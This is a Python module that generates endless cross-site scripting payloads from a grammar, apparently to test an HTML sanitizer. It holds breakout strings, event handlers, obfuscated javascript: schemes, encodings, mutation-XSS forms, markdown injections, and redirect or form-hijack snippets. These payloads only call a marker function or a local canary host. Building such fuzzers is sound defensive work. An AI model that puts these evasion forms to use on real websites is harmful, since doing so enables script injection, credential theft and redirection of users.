"""Hostile texts from a grammar of ours: what breaks out, what runs, how it is written.

Each one calls `pbx(<its number>)`, opens a dialog with its number, or loads from `{canary}`.
The same seed gives the same texts.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator
from itertools import islice
from typing import Any

BREAKOUTS = (
    *("", '"', "'", '">', "'>", "`>", ">", "\\'>", '\\">', "&quot;>", "&#34;>", "%22>"),
    *("</title>", "</script>", "</style>", "</textarea>", "</template>", "</noscript>", "</a>"),
    *(
        "</h1>",
        "-->",
        "--!>",
        "]]>",
        "]]></script>",
        "*/",
        "`",
        "\u2028",
        "<!--",
        "<![CDATA[",
        "</",
    ),
    *("\"}'>", "</playbook-live-comments>", "<p ", "&lt;/p&gt;", "\u00ad>", "\ufeff", "</xmp>"),
)
"""What stands first: the end of the attribute, element or comment that the text may be in."""

TAGS = (
    *("img", "svg", "video", "audio", "details", "body", "input", "iframe", "object", "embed"),
    *("math", "a", "marquee", "select", "style", "link", "form", "button", "x-y", "picture"),
    *("source", "image", "isindex", "template", "playbook-live-comments", "p", "table", "font"),
)
EVENTS = (
    *("onerror", "onload", "ontoggle", "onfocus", "onclick", "onmouseover", "onanimationstart"),
    *("onpointerenter", "onbegin", "onstart", "oncanplay", "onloadstart", "onfocusin", "onwheel"),
    *("onbeforetoggle", "onscrollend", "ontransitionend", "OnErRoR", "ONLOAD", "on\u017fubmit"),
)
HELP = {"onfocus": "autofocus tabindex=1", "onfocusin": "autofocus tabindex=1", "ontoggle": "open"}
"""What makes an event happen without anybody's hand."""
ADDRESS_ATTRIBUTES = (
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "srcdoc",
)
QUOTES = ('"', "'", "", "`")
APART = (" ", "/", "\t", "\n", "\r", "\x0c", "  ", " / ")
"""What may stand between a tag and its attributes."""


def _entities(text: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in text)


def _hex_entities(text: str) -> str:
    return "".join(f"&#x{ord(sign):x}" for sign in text)  # without the semicolon, too


def _some_entities(text: str) -> str:
    return "".join(f"&#{ord(s):07d};" if n % 3 == 0 else s for n, s in enumerate(text))


ENCODINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    _entities,
    _hex_entities,
    _some_entities,
    lambda text: text.replace("p", "\\u0070"),
    lambda text: text.replace("(", "&lpar;").replace(")", "&rpar;"),
    lambda text: "".join(f"%{ord(sign):02x}" for sign in text),
    lambda text: _entities(text).replace("&", "&amp;"),
    lambda text: text.replace("pbx", "top['pb'+'x']"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("(", "`").replace(")", "`") if "pbx(" in text else text,
)

SCHEMES: tuple[Callable[[str], str], ...] = (
    lambda code: f"javascript:{code}",
    lambda code: f"JaVaScRiPt:{code}",
    lambda code: f" \x01javascript:{code}",
    lambda code: f"java\tscript:{code}",
    lambda code: f"java\nscript\r:{code}",
    lambda code: f"java&Tab;script&colon;{code}",
    lambda code: f"&#106;avascript:{code}",
    lambda code: f"javascript&#58;{code}",
    lambda code: f"javascript://%0a{code}",
    lambda code: f"javascript://https://safe.example/%0a{code}",
    lambda code: f"%6aavascript:{code}",
    lambda code: f"vbscript:{code}",
    lambda code: f"data:text/html,<script>{code}</script>",
    lambda code: f"data:text/html;base64,{_base64(f'<script>{code}</script>')}",
    lambda code: f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>",
    lambda code: f"feed:javascript:{code}",
    lambda code: f"view-source:javascript:{code}",
    lambda code: f"//\tjavascript:{code}",
    lambda code: f'https://safe.example/" onmouseover={code} x="',
    lambda code: f"https://safe.example/' onmouseover={code} x='",
    lambda code: f"http:javascript:{code}",
    lambda code: f'mailto:a@b.example?"><img src=x onerror={code}>',
)


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


class Grammar:
    """Makes one hostile text after the other; every value of every axis comes again and again."""

    def __init__(self, seed: int, canary: str) -> None:
        """`canary` is a host that nothing may load from, `http://127.0.0.1:1234`."""
        self._random = random.Random(seed)
        self._canary = canary
        self._decks: dict[tuple[Any, ...], list[Any]] = {}

    def _next(self, axis: tuple[Any, ...]) -> Any:
        """The values of an axis in turn, shuffled anew each time round."""
        deck = self._decks.setdefault(axis, [])
        if not deck:
            deck += self._random.sample(axis, len(axis))
        return deck.pop()

    def texts(self) -> Iterator[str]:
        """Hostile texts without end, none twice."""
        seen: set[str] = set()
        number = 0
        shapes = (
            *(self._event, self._event, self._event, self._address, self._address, self._scheme),
            *(self._script, self._loading, self._markdown, self._mutating, self._plain),
            self._leading,
        )
        while True:
            made = self._next(shapes)(number)
            if made not in seen:
                seen.add(made)
                number += 1
                yield made

    def _code(self, number: int) -> str:
        return f"alert({number})" if number % 11 == 0 else f"pbx({number})"

    def _event(self, number: int) -> str:
        event, quote, apart = self._next(EVENTS), self._next(QUOTES), self._next(APART)
        code = self._next(ENCODINGS)(self._code(number))
        more = HELP.get(event.lower(), "src=x")
        tag = self._next(TAGS)
        end = self._next((">", "/>", "", " >", "></{}>", "\n>", "//")).format(tag)
        return f"{self._next(BREAKOUTS)}<{tag}{apart}{more} {event}={quote}{code}{quote}{end}"

    def _address(self, number: int) -> str:
        quote, apart = self._next(QUOTES), self._next(APART)
        address = self._next(SCHEMES)(self._next(ENCODINGS)(self._code(number)))
        name = self._next(ADDRESS_ATTRIBUTES)
        tag = self._next(TAGS)
        return f"{self._next(BREAKOUTS)}<{tag}{apart}{name}={quote}{address}{quote}>x</{tag}>"

    def _scheme(self, number: int) -> str:
        """An address alone, as an author's own would be."""
        return self._next(SCHEMES)(self._next(ENCODINGS)(self._code(number)))

    def _script(self, number: int) -> str:
        code = self._code(number)
        form = self._next(
            (
                "<script>{}</script>",
                "<SCRIPT/x>{}</SCRIPT >",
                "<scr<script>ipt>{}</scr</script>ipt>",
                "<script type=module>{}</script>",
                "<svg><script>{}</script></svg>",
                "<svg><script href=data:,{} />",
                "<math><mtext><script>{}</script></mtext></math>",
                "<script\n>{}//",
                "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
                '<?xml-stylesheet href="javascript:{}"?>',
                "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>{}</html:script>",
            )
        )
        return f"{self._next(BREAKOUTS)}{form.format(code)}"

    def _loading(self, number: int) -> str:
        place = f"{self._canary}/load/{number}"
        form = self._next(
            (
                "<script src={}></script>",
                "<img src={}>",
                "<link rel=stylesheet href={}>",
                "<style>@import '{}';</style>",
                "<base href={}/>",
                "<iframe src={}></iframe>",
                "<object data={}></object>",
                "<meta http-equiv=refresh content='0;url={}'>",
                "<video poster={}></video>",
                '<div style="background:url({})">x</div>',
                "<svg><image href={} /></svg>",
                "<input type=image src={}>",
                "<picture><source srcset={}><img></picture>",
                "<form action={}><button autofocus>x</button></form>",
            )
        )
        return f"{self._next(BREAKOUTS)}{form.format(place)}"

    def _leading(self, number: int) -> str:
        """Texts that run nothing: they lead a reader away, or send elsewhere what is typed."""
        place = f"{self._canary}/load/{number}"
        form = self._next(
            (
                '0;url={}" http-equiv="refresh',
                "0;url={}' http-equiv='refresh",
                '0;url={}" http-equiv=refresh x="',
                "</title><meta http-equiv='refresh' content='0;url={}'>",
                '"><meta http-equiv=refresh content=0;url={}>',
                '"><base href="{}/">',
                "'><base target=_top href={}>",
                '"><form action="{}"><input name=card autofocus></form>',
                "</a></nav><form method=post action={}><button>x</button></form>",
                '"><button form=x formaction="{}">x</button>',
                '" rel="stylesheet" href="{}',
                '"><link rel="canonical" href="{}">',
                '"><link rel=manifest href={}>',
                "'><link rel=prefetch href={}>",
                "&#34; http-equiv=&#34;refresh&#34; content=&#34;0;url={}",
                "&lt;/title&gt;&lt;meta http-equiv=refresh content='0;url={}'&gt;",
            )
        )
        return form.format(place)

    def _markdown(self, number: int) -> str:
        address = self._next(SCHEMES)(self._code(number))
        form = self._next(
            (
                "[x]({})",
                "![x]({})",
                "[x](<{}>)",
                '[x](y "z\\" onmouseover={}")',
                "<{}>",
                "[x][y]\n\n[y]: {}",
                '[x](y){{onclick="{}"}}',
                "x {{: onmouseover='{}' }}",
                "`x`<img src=x onerror={}>",
                "# x {{#y onfocus={} tabindex=1 autofocus}}",
                '*[x]: "><img src=x onerror={}>',
                "{{{{ '<img src=x onerror={}>' }}}}",
                "<div markdown=1><img src=x onerror={}></div>",
            )
        )
        return form.format(address)

    def _mutating(self, number: int) -> str:
        """Texts that change meaning when they are parsed, printed and parsed again."""
        code = self._code(number)
        form = self._next(
            (
                '<svg></p><style><a id="</style><img src=1 onerror={}>">',
                "<math><mtext><table><mglyph><style><!--</style>"
                '<img title="--><img src=1 onerror={}>">',
                '<noscript><p title="</noscript><img src=x onerror={}>">',
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
                '<a href="x`"><img src=x onerror={}//`>',
                "<listing>&lt;img src=1 onerror={}&gt;</listing>",
                '<textarea><img title="</textarea><img src onerror={}>">',
                '<svg><desc><p><style><img src="</style><img src=x onerror={}>"></p></desc></svg>',
                "&lt;img src=x onerror={}&gt;",
                "&amp;lt;img src=x onerror={}&amp;gt;",
                '<img alt="<x" title="/><img src=x onerror={}>">',
                "<select><iframe></select><img src=x onerror={}>",
            )
        )
        return f"{self._next(BREAKOUTS)}{form.format(code)}"

    def _plain(self, number: int) -> str:
        """Code for a text that ends up inside a script, a style or an attribute of its own."""
        code = self._code(number)
        form = self._next(
            (
                "';{};//",
                '";{};//',
                "\\';{};//",
                "${{{}}}",
                "`;{};//",
                "\n{}\n",
                '" onmouseover="{}',
                "' onfocus='{}' autofocus tabindex='1",
                "x onmouseover={} ",
                "</script><script>{}//",
                "\u2029{}//",
                '"}};{};({{"',
                "expression({})",
            )
        )
        return form.format(code)


def payloads(seed: int, count: int, canary: str) -> list[str]:
    """`count` different hostile texts."""
    return list(islice(Grammar(seed, canary).texts(), count))
